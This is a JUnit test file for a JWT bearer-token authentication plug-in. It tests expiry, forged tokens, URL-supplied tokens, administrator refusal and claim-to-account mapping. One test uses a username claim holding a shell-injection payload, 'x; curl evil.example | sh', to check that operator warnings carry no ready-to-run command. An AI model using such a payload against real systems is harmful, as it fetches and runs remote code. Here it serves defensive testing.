package org.authhost.plugins.bearer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.nimbusds.jose.jwk.RSAKey;
import java.time.Duration;
import java.util.List;
import org.authhost.api.AuthenticationResult;
import org.authhost.api.EventLevel;
import org.authhost.api.HResult;
import org.authhost.api.PluginException;
import org.junit.jupiter.api.Test;

/** The plug-in's answers through its context, with inline keys, on a fake host. */
class BearerPluginTest {
  final StepClock clock = new StepClock();
  final FakeServer server = new FakeServer(clock);
  final RSAKey key = TestKeys.rsa("k1");

  BearerPlugin plugin(String... settings) {
    String[] all = new String[settings.length + 4];
    all[0] = "jwks";
    all[1] = TestKeys.publicSet(key).toString();
    all[2] = "realm";
    all[3] = "media";
    System.arraycopy(settings, 0, all, 4, settings.length);
    BearerPlugin p = new BearerPlugin();
    assertEquals(HResult.S_OK, p.initialize(server, TestValues.of(all)));
    return p;
  }

  String token() {
    return TestKeys.sign(key, TestKeys.claims(clock.instant()).build());
  }

  @Test
  void noTokenGetsTheRealmAloneAndAGoodOneLogsOnTheClaimedAccount() {
    BearerPlugin p = plugin();
    Exchange first = Exchange.run(p, "");
    assertEquals(AuthenticationResult.CONTINUE, first.result());
    assertEquals("realm=\"media\"", first.challenge());
    FakeServer.Client client = new FakeServer.Client();
    Exchange ok = Exchange.run(p, token().getBytes(), client);
    assertEquals(List.of(AuthenticationResult.SUCCESS), ok.results());
    assertEquals("alice", client.name, "the claimed name is set for the lockout");
    assertEquals(List.of("alice"), server.logons);
  }

  @Test
  void anAccountLogonEndsWithTheTokenSoAHeldSessionIsCutAtItsExp() {
    BearerPlugin p = plugin();
    String t = token();
    assertEquals(AuthenticationResult.SUCCESS, Exchange.run(p, t).result());
    // exp is whole seconds, 300 s on; the verifier's 60 s skew (the default) is the logon's too.
    java.time.Instant exp =
        java.time.Instant.ofEpochSecond(clock.instant().plusSeconds(300).getEpochSecond());
    assertEquals(List.of(exp.plusSeconds(60)), server.accountEnds);
  }

  @Test
  void aTokenFromAUrlQueryParameterLogsOnAsTheHeadersWould() {
    BearerPlugin p = plugin();
    String t = token();
    // What the host hands over for ?access_token=<JWT> (API 1.4 url-credentials): name=value.
    Exchange plain = Exchange.run(p, "access_token=" + t);
    assertEquals(AuthenticationResult.SUCCESS, plain.result());
    // Percent-encoded by a cautious client, under a name the operator chose.
    Exchange encoded = Exchange.run(p, "token=" + t.replace(".", "%2E"));
    assertEquals(AuthenticationResult.SUCCESS, encoded.result());
    assertEquals(List.of("alice", "alice"), server.logons);
  }

  @Test
  void aRepeatedEmptyOrBrokenUrlTokenIsABenignInvalidToken() {
    BearerPlugin p = plugin();
    String t = token();
    for (String blob :
        List.of(
            "access_token=" + t + "&access_token=" + t,
            "access_token=",
            "access_token",
            "access_token=%zz" + t,
            "access_token=%C3")) {
      Exchange r = Exchange.run(p, blob);
      assertEquals(AuthenticationResult.DENIED, r.result(), blob);
      assertTrue(r.benign(), blob);
      assertTrue(r.challenge().contains("error=\"invalid_token\""), r.challenge());
    }
    assertEquals(List.of(), server.logons);
  }

  @Test
  void anExpiredTokenIsABenignRefusalWithTheRfc6750Error() {
    BearerPlugin p = plugin("clockSkewSeconds", "0");
    String t = token();
    // Once verified (the first exchange fetches the keys and answers from the fetch thread) ...
    assertEquals(AuthenticationResult.SUCCESS, Exchange.run(p, t).result());
    clock.advance(Duration.ofSeconds(301));
    // ... the expired token is refused at once, on the caller's thread: S_FALSE, benign.
    Exchange r = Exchange.run(p, t);
    assertEquals(AuthenticationResult.DENIED, r.result());
    assertTrue(r.benign(), "onAuthenticateRefused: not a failed logon");
    assertEquals(HResult.S_FALSE, r.hr());
    assertEquals(
        "realm=\"media\", error=\"invalid_token\", error_description=\"the token expired\"",
        r.challenge());
  }

  @Test
  void aForgeryIsAFailedLogonAndGarbageIsBenign() {
    BearerPlugin p = plugin();
    Exchange forged =
        Exchange.run(
            p, TestKeys.sign(TestKeys.rsa("k1"), TestKeys.claims(clock.instant()).build()));
    assertEquals(AuthenticationResult.DENIED, forged.result());
    assertFalse(forged.benign());
    assertEquals(HResult.S_OK, forged.hr());
    Exchange garbage = Exchange.run(p, "a.b");
    assertTrue(garbage.benign());
    assertTrue(garbage.challenge().contains("error=\"invalid_token\""), garbage.challenge());
  }

  @Test
  void anUnknownAccountIsAFailedLogonWithOneWarning() {
    BearerPlugin p = plugin();
    String bob =
        TestKeys.sign(
            key, TestKeys.claims(clock.instant()).claim("preferred_username", "bob").build());
    for (int i = 0; i < 3; i++) {
      Exchange r = Exchange.run(p, bob);
      assertEquals(AuthenticationResult.DENIED, r.result());
      assertFalse(r.benign());
    }
    assertEquals(
        1,
        server.events.stream()
            .filter(e -> e.level() == EventLevel.WARNING && e.text().contains("'bob'"))
            .count());
  }

  @Test
  void anUnknownAccountNameThatAShellWouldInterpretGetsNoReadyToRunCommand() {
    BearerPlugin p = plugin();
    String evil =
        TestKeys.sign(
            key,
            TestKeys.claims(clock.instant())
                .claim("preferred_username", "x; curl evil.example | sh")
                .build());
    assertEquals(AuthenticationResult.DENIED, Exchange.run(p, evil).result());
    List<String> warnings =
        server.events.stream()
            .filter(e -> e.level() == EventLevel.WARNING)
            .map(e -> e.text())
            .toList();
    assertEquals(1, warnings.size(), warnings.toString());
    assertFalse(warnings.get(0).contains("accounts add"), warnings.get(0));
    assertTrue(warnings.get(0).contains("x; curl evil.example | sh"), "named, for the operator");
  }

  @Test
  void aTokenNamingAnAdministratorIsRefusedUnlessAllowed() {
    String root =
        TestKeys.sign(
            key, TestKeys.claims(clock.instant()).claim("preferred_username", "root").build());
    Exchange refused = Exchange.run(plugin(), root);
    assertEquals(AuthenticationResult.DENIED, refused.result());
    assertTrue(
        server.events.stream()
            .anyMatch(e -> e.level() == EventLevel.WARNING && e.text().contains("Administrators")),
        server.events.toString());
    assertEquals(
        AuthenticationResult.SUCCESS,
        Exchange.run(plugin("allowAdministrators", "true"), root).result());
  }

  @Test
  void anEmailClaimNamesAnAccountOnlyWhenVerified() {
    BearerPlugin p = plugin("accountClaim", "email");
    String unverified =
        TestKeys.sign(key, TestKeys.claims(clock.instant()).claim("email", "alice").build());
    Exchange r = Exchange.run(p, unverified);
    assertEquals(AuthenticationResult.DENIED, r.result());
    assertTrue(r.challenge().contains("email_verified"), r.challenge());
    String verified =
        TestKeys.sign(
            key,
            TestKeys.claims(clock.instant())
                .claim("email", "alice")
                .claim("email_verified", true)
                .build());
    assertEquals(AuthenticationResult.SUCCESS, Exchange.run(p, verified).result());
  }

  @Test
  void principalModeMapsTokenGroupsToLocalGroupsWithoutAnAccount() {
    BearerPlugin p =
        plugin("identity", "principal", "groupMap", "viewers=Users, admins=Administrators");
    Exchange r = Exchange.run(p, token());
    assertEquals(AuthenticationResult.SUCCESS, r.result());
    assertEquals(List.of(), server.logons, "no local account");
    assertEquals(1, server.principals.size());
    var logon = server.principals.get(0);
    assertEquals(TestKeys.ISSUER, logon.issuer());
    assertEquals("3f1c-alice", logon.subject());
    assertEquals("alice", logon.displayName());
    assertEquals(List.of("Users"), logon.groups(), "only mapped groups");
  }

  @Test
  void badSettingsFailInitializeNamingTheProperty() {
    PluginException e =
        assertThrows(
            PluginException.class,
            () -> new BearerPlugin().initialize(server, TestValues.of("audience", null)));
    assertTrue(
        e.getMessage().contains("plugins.settings.bearer.properties.audience"), e.getMessage());
    PluginException none =
        assertThrows(
            PluginException.class,
            () -> new BearerPlugin().initialize(server, TestValues.of("algorithms", "none")));
    assertTrue(none.getMessage().contains("never none"), none.getMessage());
  }

  @Test
  void subAndClientIdClaimsNameTheAccountWhenConfigured() {
    String bySub =
        TestKeys.sign(
            key,
            TestKeys.claims(clock.instant())
                .subject("alice")
                .claim("preferred_username", "bob")
                .build());
    FakeServer.Client client = new FakeServer.Client();
    assertEquals(
        AuthenticationResult.SUCCESS,
        Exchange.run(plugin("accountClaim", "sub"), bySub.getBytes(), client).result());
    assertEquals("alice", client.name, "sub names the account, not preferred_username");

    // The client-credentials flow: no sub, the client's id names the account.
    String byClient =
        TestKeys.sign(
            key,
            TestKeys.claims(clock.instant())
                .subject(null)
                .claim("preferred_username", null)
                .claim("client_id", "alice")
                .build());
    FakeServer.Client service = new FakeServer.Client();
    assertEquals(
        AuthenticationResult.SUCCESS,
        Exchange.run(plugin("accountClaim", "client_id"), byClient.getBytes(), service).result());
    assertEquals("alice", service.name);
    assertEquals(
        AuthenticationResult.DENIED,
        Exchange.run(plugin("accountClaim", "client_id"), token()).result(),
        "a token without the configured claim names no account");
  }
}
